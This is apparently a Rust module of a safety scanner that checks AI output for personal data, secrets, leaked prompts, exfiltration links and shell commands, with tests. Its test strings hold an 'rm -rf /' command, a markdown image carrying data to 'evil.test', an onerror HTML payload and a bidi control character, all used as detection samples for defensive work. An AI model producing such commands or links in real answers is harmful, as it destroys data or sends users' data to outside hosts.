//! One door to all detectors: a text and what to look for go in, findings come out.

use crate::safety::canary::{Canary, find_canaries};
use crate::safety::commands::find_commands;
use crate::safety::credentials::find_secrets;
use crate::safety::finding::{Family, Finding};
use crate::safety::markup::find_markup;
use crate::safety::pii::{AllowedValues, MIN_SCORE, find_pii};
use crate::safety::quality::{Script, repetition_finding, script_finding};
use crate::safety::unicode::find_unicode;
use crate::safety::{leak, refusal};

/// What to look for, and what each detector has to know.
#[derive(Debug, Clone)]
pub struct Selection<'a> {
    /// Which detectors run.
    pub families: Vec<Family>,
    /// Findings with a lower score are left out.
    pub min_score: f64,
    /// Personal data that may appear: the case's own.
    pub allowed_values: AllowedValues,
    /// Hosts that links may carry data to; `*.` and a domain stand for all below it.
    pub allowed_hosts: &'a [String],
    /// Tokens that were planted.
    pub canaries: &'a [Canary],
    /// What must stay hidden, such as the system prompt.
    pub hidden_text: Option<&'a str>,
    /// The script the answer was asked for in.
    pub script: Option<Script>,
}

impl Default for Selection<'_> {
    fn default() -> Self {
        Self {
            families: Vec::new(),
            min_score: MIN_SCORE,
            allowed_values: AllowedValues::default(),
            allowed_hosts: &[],
            canaries: &[],
            hidden_text: None,
            script: None,
        }
    }
}

impl Selection<'_> {
    /// Returns the selection of `families` with nothing allowed and nothing planted.
    #[must_use]
    pub fn of(families: impl IntoIterator<Item = Family>) -> Self {
        Self {
            families: families.into_iter().collect(),
            ..Self::default()
        }
    }
}

/// Returns what the chosen detectors see in `text`, in the order of the text.
///
/// The time is linear in the length of the text. A detector that lacks what it needs (a planted token,
/// a hidden text, a script) sees nothing. Tool calls are not text: [`crate::safety::ToolPolicy::check`]
/// looks at them.
#[must_use]
pub fn scan(text: &str, selection: &Selection<'_>) -> Vec<Finding> {
    let mut families = selection.families.clone();
    families.sort_unstable();
    families.dedup();
    // Two families are found in one pass.
    if families.contains(&Family::Markup) {
        families.retain(|family| *family != Family::Exfiltration);
    }
    let mut findings: Vec<Finding> = families
        .into_iter()
        .flat_map(|family| run(family, text, selection))
        .filter(|finding| selection.families.contains(&finding.detector.family()))
        .filter(|finding| selection.min_score <= finding.score)
        .collect();
    findings.sort_by_key(|finding| (finding.span.start, finding.span.end, finding.detector));
    findings
}

fn run(family: Family, text: &str, selection: &Selection<'_>) -> Vec<Finding> {
    match family {
        Family::Pii => find_pii(text, &selection.allowed_values),
        Family::Secrets => find_secrets(text),
        Family::Refusal => refusal::finding(text).into_iter().collect(),
        Family::Canary => find_canaries(text, selection.canaries),
        Family::Unicode => find_unicode(text),
        Family::Exfiltration | Family::Markup => find_markup(text, selection.allowed_hosts),
        Family::Commands => find_commands(text),
        Family::Leak => {
            let hidden = selection.hidden_text;
            let finding = hidden.and_then(|hidden| leak::finding(text, hidden));
            finding.into_iter().collect()
        }
        Family::Repetition => repetition_finding(text).into_iter().collect(),
        Family::Language => {
            let script = selection.script;
            let finding = script.and_then(|script| script_finding(text, script));
            finding.into_iter().collect()
        }
        Family::ToolPolicy => Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::{Selection, scan};
    use crate::safety::canary::Canary;
    use crate::safety::finding::{Detector, Family};
    use crate::safety::quality::Script;
    use proptest::prelude::proptest;

    const EVERY: [Family; 11] = [
        Family::Pii,
        Family::Secrets,
        Family::Refusal,
        Family::Canary,
        Family::Unicode,
        Family::Exfiltration,
        Family::Markup,
        Family::Commands,
        Family::Leak,
        Family::Repetition,
        Family::Language,
    ];

    fn everything(canaries: &[Canary]) -> Selection<'_> {
        Selection {
            canaries,
            hidden_text: Some("these are eight words that must stay hidden here"),
            script: Some(Script::Latin),
            min_score: 0.0,
            ..Selection::of(EVERY)
        }
    }

    #[test]
    fn only_chosen_families_speak() {
        let text = "I can't help with that. Mail jo@acme.org\u{202E}, run rm -rf / \
            and look at ![x](https://evil.test/?d=0123456789abcdef) <img src=x onerror=y>";
        let ids = |families: &[Family]| -> Vec<&str> {
            let findings = scan(text, &Selection::of(families.iter().copied()));
            findings
                .iter()
                .map(|finding| finding.detector.id())
                .collect()
        };
        assert_eq!(
            ids(&EVERY),
            [
                "refusal/full",
                "pii/email",
                "unicode/bidi-control",
                "commands/shell",
                "exfiltration/image",
                "markup/event-handler"
            ]
        );
        assert_eq!(ids(&[Family::Exfiltration]), ["exfiltration/image"]);
        assert_eq!(
            ids(&[Family::Markup, Family::Markup]),
            ["markup/event-handler"]
        );
        assert!(ids(&[]).is_empty());
    }

    #[test]
    fn a_finding_is_never_the_value() {
        let key = ["sk-", "proj-", &"a1B2c3D4".repeat(6)].concat();
        let text = format!("jo@acme.org 4111 1111 1111 1111 {key}");
        let findings = scan(&text, &Selection::of(EVERY));
        assert_eq!(findings.len(), 3);
        let written = serde_json::to_string(&findings).unwrap();
        for value in ["jo@", "4111", "a1B2"] {
            assert!(!written.contains(value), "{written}");
        }
    }

    /// With work that grows with the square of the length these would not end.
    #[test]
    fn hostile_texts_end() {
        let canaries = [Canary::new(7)];
        for piece in [
            "a",
            "1",
            "1 ",
            "4111 ",
            "1.",
            "1-",
            "@",
            "a@",
            "[",
            "]",
            "](",
            "![a](//",
            "<",
            "<a ",
            "<a b=",
            "=",
            "`",
            "```",
            "\u{E0041}",
            "\u{200B}",
            "\u{1B}[",
            "ey",
            "eyJ.ey",
            "sk-",
            "AKIA",
            "password=",
            "-----BEGIN ",
            "i can't ",
            "как ",
            "+1",
            "(",
            "::",
            "a:b:",
            "GB82 ",
            "| sh",
            "curl ",
            "%41",
            "4a",
            "x y ",
            "ab ab ",
            "日",
            "\u{1F468}\u{200D}",
            "delete from a ",
        ] {
            let text = piece.repeat((1 << 14) / piece.len());
            for finding in scan(&text, &everything(&canaries)) {
                assert!(text.get(finding.span).is_some(), "{piece}");
            }
        }
    }

    proptest! {
        #[test]
        fn spans_are_pieces_of_the_text(text in "(\\PC|[a@.+0-9 <>=\\[\\]()!/?-]|ⅿ|İ|\u{200B}|javascript:){0,60}") {
            let canaries = [Canary::new(7)];
            for finding in scan(&text, &everything(&canaries)) {
                assert!(text.get(finding.span.clone()).is_some(), "{finding:?}");
                assert!((0.0..=1.0).contains(&finding.score));
            }
        }

        #[test]
        fn planted_mail_is_found_in_any_text(before in "[a-z ]{0,30}", after in "[a-z ]{0,30}") {
            let text = format!("{before} jo.doe@acme.org {after}");
            let findings = scan(&text, &Selection::of([Family::Pii]));
            assert!(findings.iter().any(|finding| finding.detector == Detector::Email));
        }
    }
}
